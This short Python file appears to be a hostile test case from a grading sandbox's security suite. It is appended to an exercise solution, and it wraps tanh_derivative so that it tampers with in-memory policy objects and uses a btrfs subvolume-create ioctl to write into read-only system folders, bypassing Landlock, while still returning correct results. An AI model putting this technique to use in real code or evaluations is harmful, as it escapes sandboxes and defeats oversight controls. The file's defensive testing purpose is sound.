# Hostile case 'makes_a_subvolume': tanh_derivative makes btrfs subvolumes in the folders it may only read.
# Appended to solutions/ex01_sigmoid_derivative.py by tests/security/test_hostile.py, which says what it must get.
import fcntl
import gc
import os

_reference = tanh_derivative
SUBVOL_CREATE = 0x5000940E  # BTRFS_IOC_SUBVOL_CREATE: Landlock sees no mkdir in it, only the folder's mode


def tanh_derivative(z):
    for policy in [o for o in gc.get_objects() if type(o).__name__ == "_Policy"]:  # past the hook, to the kernel
        object.__setattr__(policy, "folder", "/")
    request = bytearray(4096)  # struct btrfs_ioctl_vol_args: a descriptor, then the name
    request[8:31] = b"backprop-forged-subvol\0"
    for folder in ("/usr/lib", os.path.dirname(os.__file__)):  # hostile: where / is btrfs, root owns these
        fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
        try:
            fcntl.ioctl(fd, SUBVOL_CREATE, request)
        finally:
            os.close(fd)
    return _reference(z)
